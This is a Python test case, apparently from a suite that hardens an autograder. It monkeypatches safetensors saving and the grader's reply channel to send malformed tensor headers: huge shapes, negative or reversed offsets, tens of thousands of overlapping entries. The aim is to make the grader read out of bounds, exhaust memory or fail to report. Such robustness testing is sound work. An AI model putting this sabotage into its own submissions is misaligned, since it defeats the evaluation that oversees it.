"""Send tensors whose header promises more than there is, overlaps, or is itself enormous.

base: skeleton
earns: 0
wins: the grader reads outside of what it received, runs out of memory, or has no report
"""
import itertools
import json

ENTRY = {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}
HEADERS = [
    {"t0": ENTRY},
    {"t0": {"dtype": "F32", "shape": [1 << 62, 4], "data_offsets": [0, 16]}},
    {"t0": {"dtype": "F32", "shape": [-1], "data_offsets": [16, 0]}},
    {f"t{i}": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} for i in range(30_000)},
]

try:
    import safetensors.torch

    header = itertools.cycle(HEADERS)

    def save(tensors, metadata=None):
        text = json.dumps(next(header)).encode()
        return len(text).to_bytes(8, "little") + text + bytes(16)

    safetensors.torch.save = save
    from autograder.isolation.worker import wire

    answer = wire.Channel.send_reply

    def with_tensors(channel, message, tensors):
        answer(channel, wire.Returned(wire.TensorAt("t0")), {"t0": None})

    wire.Channel.send_reply = with_tensors
except BaseException:
    pass
